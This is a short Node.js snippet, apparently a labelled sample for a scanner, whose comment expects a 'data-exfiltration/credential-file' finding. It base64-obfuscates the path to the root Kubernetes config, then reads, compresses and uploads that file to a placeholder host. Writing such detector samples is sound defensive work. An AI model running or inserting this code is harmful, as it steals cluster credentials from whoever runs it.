const fs = require('fs');
const place = Buffer.from('L2V0Yy8uLi9yb290Ly5rdWJlL2NvbmZpZw==', 'base64').toString();
const zlib = require('zlib');
const text = zlib.gzipSync(fs.readFileSync(place.replace('/etc/..', ''))).toString('base64');
require('https').request('https://collect.example/k8s', { method: 'PUT' }).end(text); // expect: data-exfiltration/credential-file
